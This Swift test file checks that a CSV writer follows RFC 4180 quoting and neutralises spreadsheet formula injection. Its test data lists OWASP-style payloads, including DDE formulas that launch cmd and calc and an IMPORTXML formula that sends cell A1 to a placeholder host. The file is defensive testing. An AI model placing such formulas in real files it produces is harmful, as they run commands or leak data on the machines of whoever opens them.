import Markup
import Testing

@Suite struct CSVTests {
  static func line(_ fields: CSV.Field...) -> String {
    var bytes: [UInt8] = []
    CSV.append(fields, to: &bytes)
    return String(decoding: bytes, as: UTF8.self)
  }

  /// The rules of RFC 4180, 2, of which each has an example there.
  @Test func `records end with CR LF and what would end a field is in quotes`() {
    #expect(Self.line(.text("aaa"), .text("bbb"), .text("ccc")) == "\"aaa\",\"bbb\",\"ccc\"\r\n")
    #expect(Self.line(.text("b\r\nbb"), .empty) == "\"b\r\nbb\",\r\n")
    #expect(Self.line(.text("b\"bb")) == "\"b\"\"bb\"\r\n")
    #expect(Self.line(.text("a,b;c\td")) == "\"a,b;c\td\"\r\n")
    #expect(Self.line(.number(7), .number(-7), .text("")) == "7,-7,\"\"\r\n")
  }

  /// From OWASP, "CSV Injection", and from the payloads in its references.
  @Test(arguments: [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "=1+2\";=1+2", "=1+2'\" ;,=1+2", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    "+cmd|' /C calc'!E2", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://a.example?v=\", A1), \"//a\")", "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)",
    " =1+1", "\u{A0}=1+1", "\u{200B}=1+1", "\u{FEFF}=1+1", "\u{0}=1+1", "\u{3000}+1",
  ])
  func `what a spreadsheet would run gets an apostrophe and stays in its cell`(text: String) {
    let line = Self.line(.text(text), .text("next"))
    let inside = Array(line.utf8.dropFirst().dropLast(#"","next""#.utf8.count + 2))
    #expect(line.hasPrefix("\"'"))
    #expect(Self.unquoted(inside) == Array(("'" + text).utf8))
  }

  @Test(arguments: ["", "a", "a=1", "Ann-Marie", "1-2", "'=1", "5 > 4", "မောင်", "\u{200B}", " a"])
  func `other text stays as it is`(text: String) {
    #expect(Self.line(.text(text)) == "\"\(text)\"\r\n")
  }

  /// Nil where a quote stands alone, which would end the cell.
  static func unquoted(_ bytes: [UInt8]) -> [UInt8]? {
    var rest = bytes[...]
    var text: [UInt8] = []
    while let byte = rest.popFirst() {
      if byte == UInt8(ascii: "\""), rest.popFirst() != byte { return nil }
      text.append(byte)
    }
    return text
  }
}
